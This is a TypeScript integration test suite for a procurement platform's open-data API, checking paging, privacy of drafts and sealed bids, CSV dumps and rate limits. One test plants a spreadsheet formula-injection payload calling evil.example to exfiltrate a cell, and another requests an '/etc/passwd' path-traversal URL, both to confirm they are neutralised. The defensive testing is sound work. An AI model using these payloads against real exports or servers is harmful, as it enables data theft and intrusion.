import { ApplicationView, OpenAward, OpenDataDataset, OpenDataPage, OpenDataWithdrawal, OpenProduct, OpenScenario, ProductView, ScenarioBatchView, ScenarioView } from '@scenematch/contracts';
import { OpenDataDumpsService } from '@scenematch/server-open-data';
import { createProduct, createUser, csvTexts, formulaCells, TestClient, TestUser } from '@scenematch/server-testing';
import { rm } from 'node:fs/promises';
import { Client } from 'pg';
import { inDays, startTestApp, TestApp } from '../testing/test-app';

type Rec = { id: string; updatedAt: string; withdrawn: boolean };
type FieldErrors = { message: string; errors: Array<{ field: string; message: string }> };

/**
 * 开放数据: the public feeds page through every public record exactly once, follow changes, and
 * never show drafts, unpublished lists, unlisted products, unconfirmed awards, sealed bids or
 * contact details — checked on the serialized bodies, as a consumer receives them.
 */
describe('open data (开放数据)', () => {
  let t: TestApp;
  let organiser: TestClient;
  let agency: TestClient;
  let enterprise: TestClient;
  let rival: TestClient;
  let company: TestUser;
  let expert: TestUser;
  let anyone: TestClient;
  const marker = `SEALED-${Date.now().toString(36)}`;
  const contactPhone = '13912345678';
  const contactEmail = `contact-${Date.now().toString(36)}@agency.example.cn`;
  const ids: Record<string, string> = {};
  const storage = `/tmp/scenematch-test-storage-opendata-${process.pid}`;

  const sql = (text: string, params: unknown[] = []) => t.database.query(text, params);

  async function scenario(title: string, steps: Array<'submit' | 'publish' | 'return' | 'cancel'>, batchId?: string): Promise<string> {
    const s = await agency.post<ScenarioView>('/api/scenarios', {
      title,
      domain: '智慧医疗',
      description: '在区属医院试点人工智能应用，提升诊疗效率。',
      capabilities: ['计算机视觉'],
      deadline: inDays(20),
      contactName: '王联系',
      contactPhone,
      contactEmail,
      ...(batchId ? { batchId } : {}),
    });
    expect(s.status).toBe(201);
    for (const step of steps) {
      const client = step === 'submit' ? agency : organiser;
      const body = step === 'return' ? { reason: '请补充场景描述和预期成效。' } : step === 'cancel' ? { reason: '需求调整，暂不征集。' } : undefined;
      expect((await client.post(`/api/scenarios/${s.body.id}/${step}`, body)).status).toBe(200);
    }
    return s.body.id;
  }

  const bid = (note: string) => ({
    proposal: `技术方案：${marker}-${note}，在试点医院部署影像辅助诊断，三个月内上线。`,
    quote: 650000,
    durationDays: 90,
    team: `项目经理 1 名（${marker}-team）`,
    declarations: { truthful: true },
  });

  async function apply(client: TestClient, scenarioId: string, note: string): Promise<string> {
    const created = await client.post<ApplicationView>(`/api/scenarios/${scenarioId}/applications`, bid(note));
    expect(created.status).toBe(201);
    expect((await client.post<ApplicationView>(`/api/applications/${created.body.id}/submit`)).body.status).toBe('submitted');
    return created.body.id;
  }

  /** Opens the bids, reviews, proposes the award; `confirm` ends the notice and confirms it. */
  async function award(scenarioId: string, applicationId: string, confirm: boolean): Promise<string> {
    await sql(`UPDATE scenarios SET deadline = now() - interval '1 day' WHERE id = $1`, [scenarioId]);
    expect((await organiser.post(`/api/applications/${applicationId}/shortlist`)).status).toBe(200);
    expect((await organiser.post(`/api/scenarios/${scenarioId}/reviewers`, { expertIds: [expert.id] })).status).toBe(200);
    const proposed = await organiser.post<{ id: string }>(`/api/scenarios/${scenarioId}/award`, { applicationIds: [applicationId] });
    expect(proposed.status).toBe(201);
    if (confirm) {
      await sql(`UPDATE awards SET notice_ends_at = now() - interval '1 second' WHERE id = $1`, [proposed.body.id]);
      expect((await organiser.post(`/api/notices/${proposed.body.id}/confirm`)).status).toBe(200);
    }
    return proposed.body.id;
  }

  /** Every record of a feed, page by page with the cursor; the raw bodies too. */
  async function drain<T = Rec>(dataset: OpenDataDataset, query = '', limit = 7): Promise<{ items: Array<T & Rec>; bodies: string[]; cursor: string | null }> {
    const items: Array<T & Rec> = [];
    const bodies: string[] = [];
    let cursor: string | null = null;
    for (let page = 0; page < 200; page++) {
      const params = new URLSearchParams(query);
      params.set('limit', String(limit));
      if (cursor) params.set('cursor', cursor);
      const res = await anyone.get<OpenDataPage<T>>(`/api/open-data/${dataset}?${params}`);
      expect(res.status).toBe(200);
      bodies.push(JSON.stringify(res.body));
      items.push(...(res.body.items as Array<T & Rec>));
      expect(res.body.items.length).toBeLessThanOrEqual(limit);
      cursor = res.body.nextCursor;
      if (!res.body.hasMore) return { items, bodies, cursor };
    }
    throw new Error('the feed did not end');
  }

  const once = (items: Rec[]) => {
    const seen = items.map((i) => i.id);
    expect(new Set(seen).size).toBe(seen.length);
    return new Set(seen);
  };
  const ordered = (items: Rec[]) => {
    for (let i = 1; i < items.length; i++) {
      const [a, b] = [items[i - 1], items[i]];
      expect(a.updatedAt < b.updatedAt || (a.updatedAt === b.updatedAt && a.id < b.id)).toBe(true);
    }
  };

  beforeAll(async () => {
    t = await startTestApp('opendata', { STORAGE_DIR: storage });
    const users = await Promise.all([
      createUser(t, { role: 'organiser' }),
      createUser(t, { role: 'agency', verified: true }),
      createUser(t, { role: 'enterprise', verified: true }),
      createUser(t, { role: 'enterprise', verified: true }),
      createUser(t, { role: 'expert' }),
    ]);
    [organiser, agency, enterprise, rival] = users.map((u) => u.client);
    [company, expert] = [users[2], users[4]];
    anyone = t.client.fromAddress('198.51.100.7');

    const published = await organiser.post<ScenarioBatchView>('/api/batches', { number: 81, name: '开放数据测试批次', issuer: '服务中心' });
    expect((await organiser.post(`/api/batches/${published.body.id}/publish`)).status).toBe(200);
    ids['batch'] = published.body.id;
    const draft = await organiser.post<ScenarioBatchView>('/api/batches', { number: 82, name: '未发布的草稿批次', issuer: '服务中心' });
    ids['draftBatch'] = draft.body.id;

    ids['published'] = await scenario('开放数据：已发布的影像辅助诊断', ['submit', 'publish'], ids['batch']);
    ids['draft'] = await scenario('开放数据：草稿场景', []);
    ids['submitted'] = await scenario('开放数据：待审核场景', ['submit']);
    ids['returned'] = await scenario('开放数据：被退回场景', ['submit', 'return']);
    ids['inDraftBatch'] = await scenario('开放数据：草稿批次中的场景', ['submit', 'publish'], ids['draftBatch']);
    ids['cancelled'] = await scenario('开放数据：发布后取消的场景', ['submit', 'publish', 'cancel']);
    ids['awarded'] = await scenario('开放数据：已揭榜场景', ['submit', 'publish']);
    ids['inNotice'] = await scenario('开放数据：公示中场景', ['submit', 'publish']);

    // Sealed bids on an open scenario, and the two awards.
    await apply(enterprise, ids['published'], 'open');
    ids['awardedBid'] = await apply(enterprise, ids['awarded'], 'won');
    await apply(rival, ids['awarded'], 'lost');
    ids['noticeBid'] = await apply(rival, ids['inNotice'], 'notice');
    ids['award'] = await award(ids['awarded'], ids['awardedBid'], true);
    ids['noticeAward'] = await award(ids['inNotice'], ids['noticeBid'], false);

    // Products: one never submitted, one rejected, one delisted after listing.
    const product = async (name: string) => (await enterprise.post<ProductView>('/api/products', {
      name,
      description: '面向医院的影像辅助诊断系统。',
      capabilities: ['计算机视觉'],
      domains: ['智慧医疗'],
      maturity: 'pilot',
      deploymentModes: ['private-cloud'],
    })).body.id;
    ids['draftProduct'] = await product('开放数据未提交产品');
    ids['rejectedProduct'] = await product('开放数据被驳回产品');
    await enterprise.post(`/api/products/${ids['rejectedProduct']}/submit`);
    expect((await organiser.post(`/api/products/${ids['rejectedProduct']}/reject`, { reason: '材料不完整，请补充案例。' })).status).toBe(200);
    ids['delistedProduct'] = (await createProduct(t, { company: enterprise, organiser, name: '开放数据下架产品' })).id;
    expect((await organiser.post(`/api/products/${ids['delistedProduct']}/delist`, { reason: '企业申请下架该产品。' })).status).toBe(200);
  });

  afterAll(async () => {
    await t?.close();
    await rm(storage, { recursive: true, force: true });
  });

  it('pages the scenario feed with the cursor: every public scenario exactly once, in change order, withdrawals as such', async () => {
    const expected = (await sql(`SELECT id FROM scenarios WHERE status IN ('published', 'closed', 'evaluating', 'awarded', 'piloting', 'accepted')`)).rows.map((r) => r['id']);
    expect(expected.length).toBeGreaterThan(20);
    const { items, bodies } = await drain<OpenScenario>('scenarios', '', 9);
    ordered(items);
    const all = once(items);
    const live = items.filter((i) => !i.withdrawn);
    expect(new Set(live.map((i) => i.id))).toEqual(new Set(expected));
    expect(all.has(ids['published']) && all.has(ids['awarded']) && all.has(ids['inNotice'])).toBe(true);
    for (const hidden of ['draft', 'submitted', 'returned', 'inDraftBatch']) expect(all.has(ids[hidden])).toBe(false);

    // Cancelled after publication: announced as withdrawn, with nothing else.
    const cancelled = items.find((i) => i.id === ids['cancelled']) as unknown as OpenDataWithdrawal;
    expect(Object.keys(cancelled).sort()).toEqual(['id', 'updatedAt', 'withdrawn']);
    expect(cancelled.withdrawn).toBe(true);

    const published = live.find((i) => i.id === ids['published']) as OpenScenario;
    expect(published).toMatchObject({ title: '开放数据：已发布的影像辅助诊断', domain: { name: '智慧医疗' }, batch: { id: ids['batch'], number: 81 }, status: 'published' });
    expect(published.capabilities.map((c) => c.name)).toContain('计算机视觉');
    expect(published.url).toMatch(new RegExp(`/scenarios/${ids['published']}$`));

    const text = bodies.join('\n');
    for (const secret of [marker, contactPhone, contactEmail, '王联系', '开放数据：草稿场景', '开放数据：待审核场景', '开放数据：被退回场景', '开放数据：草稿批次中的场景', '开放数据：发布后取消的场景', '请补充场景描述', '需求调整']) {
      expect(text).not.toContain(secret);
    }
  });

  it('starts from updatedSince and returns each change after it once', async () => {
    const { items } = await drain('scenarios', '', 500);
    const middle = items[Math.floor(items.length / 2)];
    const since = new Date(Date.parse(middle.updatedAt)).toISOString(); // milliseconds: at or before `middle`
    const later = await drain('scenarios', `updatedSince=${since}`, 4);
    once(later.items);
    const sinceMicros = since.replace('Z', '000Z');
    const expected = items.filter((i) => i.updatedAt >= sinceMicros).map((i) => i.id);
    expect(expected.length).toBeLessThan(items.length);
    expect(later.items.map((i) => i.id)).toEqual(expected);
    expect(later.items.map((i) => i.id)).toContain(middle.id);

    // A date alone is 00:00 Beijing time; the future holds nothing; an offset's unencoded + reads as +.
    expect((await anyone.get<OpenDataPage<unknown>>('/api/open-data/scenarios?updatedSince=2999-01-01')).body.items).toEqual([]);
    const spaced = await anyone.get<OpenDataPage<unknown>>('/api/open-data/scenarios?updatedSince=2000-01-01T00:00:00 08:00&limit=1');
    expect(spaced.status).toBe(200);
    expect(spaced.body.items).toHaveLength(1);
  });

  it('moves a changed record to the end of the feed, where a consumer polling with its last cursor finds it once', async () => {
    const first = await drain('scenarios', '', 500);
    expect(first.cursor).toBeTruthy();
    const before = first.items.find((i) => i.id === ids['published']) as Rec;

    expect((await agency.patch(`/api/scenarios/${ids['published']}`, { description: '在区属医院试点人工智能应用，提升诊疗效率；新增两家试点医院。' })).status).toBe(200);
    const next = await anyone.get<OpenDataPage<OpenScenario>>(`/api/open-data/scenarios?cursor=${first.cursor}`);
    expect(next.body.items.map((i) => i.id)).toEqual([ids['published']]);
    expect(next.body.items[0].updatedAt > before.updatedAt).toBe(true);
    expect((next.body.items[0] as OpenScenario).description).toContain('新增两家试点医院');

    // A change made by SQL elsewhere (an agency renamed) moves its scenarios too (trigger-kept).
    const agencyId = (await sql(`SELECT agency_id FROM scenarios WHERE id = $1`, [ids['awarded']])).rows[0]['agency_id'];
    await sql(`UPDATE organisations SET name = name || '（更名）' WHERE id = $1`, [agencyId]);
    const renamed = await anyone.get<OpenDataPage<OpenScenario>>(`/api/open-data/scenarios?cursor=${next.body.nextCursor}&limit=500`);
    const moved = renamed.body.items.map((i) => i.id);
    expect(moved).toContain(ids['awarded']);
    expect(moved).not.toContain(ids['draft']);
    expect((renamed.body.items.find((i) => i.id === ids['awarded']) as OpenScenario).agency.name).toMatch(/（更名）$/);

    // Nothing new: an empty page that keeps the cursor.
    const idle = await anyone.get<OpenDataPage<OpenScenario>>(`/api/open-data/scenarios?cursor=${renamed.body.nextCursor}`);
    expect(idle.body).toMatchObject({ items: [], hasMore: false, nextCursor: renamed.body.nextCursor });
  });

  it('holds back changes while an older transaction is still open, so none lands behind a cursor', async () => {
    const start = await drain('scenarios', '', 500);
    const open = new Client({ connectionString: t.database.url });
    await open.connect();
    try {
      await open.query('BEGIN');
      await open.query('SELECT 1'); // the transaction has started (and could still write)
      await sql(`UPDATE scenarios SET site = '区人民医院' WHERE id = $1`, [ids['published']]);
      const held = await anyone.get<OpenDataPage<OpenScenario>>(`/api/open-data/scenarios?cursor=${start.cursor}`);
      expect(held.body.items).toEqual([]);
      await open.query('COMMIT');
    } finally {
      await open.end();
    }
    const released = await anyone.get<OpenDataPage<OpenScenario>>(`/api/open-data/scenarios?cursor=${start.cursor}`);
    expect(released.body.items.map((i) => i.id)).toEqual([ids['published']]);
  });

  it('lists published batches only', async () => {
    const { items, bodies } = await drain('batches', '', 3);
    const expected = (await sql(`SELECT id FROM scenario_batches WHERE status IN ('published', 'closed')`)).rows.map((r) => r['id']);
    expect(once(items)).toEqual(new Set(expected));
    expect(items.map((i) => i.id)).toContain(ids['batch']);
    expect(bodies.join('\n')).not.toContain('未发布的草稿批次');
  });

  it('lists the capability list’s products only, a delisted one as withdrawn', async () => {
    const { items, bodies } = await drain<OpenProduct>('products', '', 11);
    ordered(items);
    once(items);
    const expected = (await sql(`SELECT id FROM products WHERE status = 'listed'`)).rows.map((r) => r['id']);
    expect(new Set(items.filter((i) => !i.withdrawn).map((i) => i.id))).toEqual(new Set(expected));
    expect(items.find((i) => i.id === ids['delistedProduct'])).toMatchObject({ withdrawn: true });
    const text = bodies.join('\n');
    expect(text).not.toContain('开放数据未提交产品');
    expect(text).not.toContain('开放数据被驳回产品');
    expect(text).not.toContain('材料不完整');
    const listed = items.find((i) => !i.withdrawn) as OpenProduct;
    expect(listed.company.name).toBeTruthy();
    expect(listed).not.toHaveProperty('contactPhone');
  });

  it('lists confirmed awards only: no award in its notice period, and nothing of any bid but the winner and amount', async () => {
    const { items, bodies } = await drain<OpenAward>('awards', '', 2);
    const ids_ = once(items);
    expect(ids_.has(ids['award'])).toBe(true);
    expect(ids_.has(ids['noticeAward'])).toBe(false);
    const won = items.find((i) => i.id === ids['award']) as OpenAward;
    expect(won.scenario).toMatchObject({ id: ids['awarded'], title: '开放数据：已揭榜场景' });
    expect(won.winners).toEqual([{ company: { id: expect.any(String), name: company.organisation.name }, members: [], amount: 650000 }]);
    expect(won.confirmedAt).toBeTruthy();
    const text = bodies.join('\n');
    expect(text).not.toContain(marker);
    expect(text).not.toContain('开放数据：公示中场景');
    expect(text).not.toContain(contactPhone);
    expect(text).not.toMatch(/proposal|team|durationDays|declarations/);

    // The award leaves the public set with its scenario: it comes back once, as withdrawn.
    const last = (await drain('awards', '', 50)).cursor;
    await sql(`UPDATE scenarios SET status = 'cancelled' WHERE id = $1`, [ids['awarded']]);
    const after = await anyone.get<OpenDataPage<OpenAward>>(`/api/open-data/awards?cursor=${last}`);
    expect(after.body.items).toEqual([{ id: ids['award'], updatedAt: expect.any(String), withdrawn: true }]);
  });

  it('answers bad parameters with 400 and field messages', async () => {
    const bad = async (query: string, field: string) => {
      const res = await anyone.get<FieldErrors>(`/api/open-data/scenarios?${query}`);
      expect(res.status).toBe(400);
      expect(res.body.errors.map((e) => e.field)).toContain(field);
      expect(res.body.errors.find((e) => e.field === field)?.message).toBeTruthy();
    };
    await bad('updatedSince=yesterday', 'updatedSince');
    await bad('updatedSince=2026-13-45T00:00:00Z', 'updatedSince');
    await bad('updatedSince=2026-12-01T08:00:00', 'updatedSince'); // no zone: ambiguous
    await bad('cursor=not-a-cursor', 'cursor');
    await bad(`cursor=${Buffer.from(JSON.stringify(['2026-01-01T00:00:00.000000Z', 'x'])).toString('base64url')}`, 'cursor');
    await bad('limit=501', 'limit');
    await bad('limit=0', 'limit');
    await bad('limit=ten', 'limit');
    await bad('status=draft', 'status');
  });

  it('serves the daily dump files, says clearly when none exists yet, and neutralises formulas', async () => {
    const none = await anyone.get<{ message: string }>('/api/open-data/dumps/latest/scenarios.csv');
    expect(none.status).toBe(404);
    expect(none.body.message).toContain('尚未生成');
    expect((await anyone.get<{ latest: unknown }>('/api/open-data/dumps')).body.latest).toBeNull();

    await sql(`UPDATE scenarios SET title = '=HYPERLINK("http://evil.example/?x="&A1,"点我")' WHERE id = $1`, [ids['inNotice']]);
    const dumps = t.app.get(OpenDataDumpsService);
    const id = (await dumps.request()) as string;
    expect(await dumps.write(id)).toMatchObject({ files: expect.arrayContaining([expect.objectContaining({ dataset: 'scenarios', format: 'csv' })]) });

    const list = await anyone.get<{ latest: { files: Array<{ dataset: string; format: string; rows: number; url: string }> } }>('/api/open-data/dumps');
    expect(list.body.latest.files).toHaveLength(8);
    const res = await t.app.inject({ method: 'GET', url: '/api/open-data/dumps/latest/scenarios.csv', remoteAddress: '198.51.100.7' });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const cells = csvTexts(res.rawPayload);
    expect(formulaCells(cells)).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"点我")`);
    expect(cells).toContain(ids['published']);
    for (const hidden of ['draft', 'submitted', 'returned', 'cancelled']) expect(cells).not.toContain(ids[hidden]);
    expect(res.rawPayload.toString('utf8')).not.toContain(contactPhone);
    const rows = list.body.latest.files.find((f) => f.dataset === 'scenarios' && f.format === 'csv')?.rows;
    expect(cells.filter((c) => /^[0-9a-f-]{36}$/.test(c)).length).toBeGreaterThanOrEqual(rows as number);

    expect((await anyone.get('/api/open-data/dumps/latest/secrets.csv')).status).toBe(404);
    expect((await anyone.get('/api/open-data/dumps/..%2F..%2Fetc/passwd')).status).toBe(404);
  });

  it('limits each address’s requests a minute, without signing in', async () => {
    const client = t.client.fromAddress('203.0.113.9');
    let limited = 0;
    for (let i = 0; i < 125 && !limited; i++) if ((await client.get('/api/open-data/batches?limit=1')).status === 429) limited = i + 1;
    expect(limited).toBe(121);
    expect((await t.client.fromAddress('203.0.113.10').get('/api/open-data/batches?limit=1')).status).toBe(200);
  });
});
